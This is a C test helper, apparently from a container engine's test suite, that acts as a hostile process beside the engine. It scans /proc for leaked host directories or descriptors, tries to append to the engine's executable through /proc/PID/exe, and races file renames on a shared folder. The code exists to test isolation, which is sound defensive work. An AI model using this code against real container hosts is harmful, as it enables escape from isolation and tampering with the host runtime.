/*
 * What a hostile process does beside an engine at work. Compiled by the tests that use it.
 *   spy watch MARKER SIZE OUT   in a container: looks through /proc of all others for a way to MARKER, a file of the host, and for
 *                               a program of SIZE bytes, the engine's, which it then tries to write to; each find is a line in OUT
 *   spy swap A B                on a shared folder: exchanges two names as fast as it can, until it is killed
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { KEPT = 64 };
static int kept[KEPT], count;
static const char *out;

static void tell(const char *what, const char *where)
{
    char line[600];
    int fd = open(out, O_WRONLY | O_CREAT | O_APPEND, 0666);
    int n = snprintf(line, sizeof line, "%s %s\n", what, where);
    if (fd >= 0 && write(fd, line, (size_t)n) == n)
        close(fd);
}

/* Is the marker within reach of the folder at `path`? */
static void look(const char *path, const char *marker)
{
    char way[700];
    snprintf(way, sizeof way, "%s/../../../../../../../../../..%s", path, marker);
    if (access(way, F_OK) == 0)
        tell("host", path);
}

static void program(const char *path, off_t size)
{
    struct stat st;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd >= 0 && fstat(fd, &st) == 0 && st.st_size == size && count < KEPT) {
        kept[count++] = fd;
        tell("program", path);
    } else if (fd >= 0) {
        close(fd);
    }
}

/* Busy while somebody runs it; sooner or later nobody does. */
static void overwrite(void)
{
    for (int i = 0; i < count; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
        int fd = open(path, O_WRONLY | O_APPEND);
        if (fd >= 0 && write(fd, "#", 1) == 1)
            tell("written", path);
        if (fd >= 0)
            close(fd);
    }
}

static void watch(const char *marker, off_t size)
{
    char path[300];
    for (;;) {
        DIR *all = opendir("/proc");
        struct dirent *e;
        while (all && (e = readdir(all))) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
                continue;
            for (const char *const *what = (const char *const[]){ "cwd", "root", NULL }; *what; what++) {
                snprintf(path, sizeof path, "/proc/%s/%s", e->d_name, *what);
                look(path, marker);
            }
            for (int fd = 0; fd < 24; fd++) {
                snprintf(path, sizeof path, "/proc/%s/fd/%d", e->d_name, fd);
                look(path, marker);
            }
            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
            program(path, size);
        }
        if (all)
            closedir(all);
        overwrite();
    }
}

int main(int argc, char **argv)
{
    if (argc == 5 && !strcmp(argv[1], "watch")) {
        out = argv[4];
        tell("begun", "");
        watch(argv[2], atoll(argv[3]));
    }
    if (argc == 4 && !strcmp(argv[1], "swap"))
        for (;;)
            syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2 /* RENAME_EXCHANGE */);
    return 2;
}
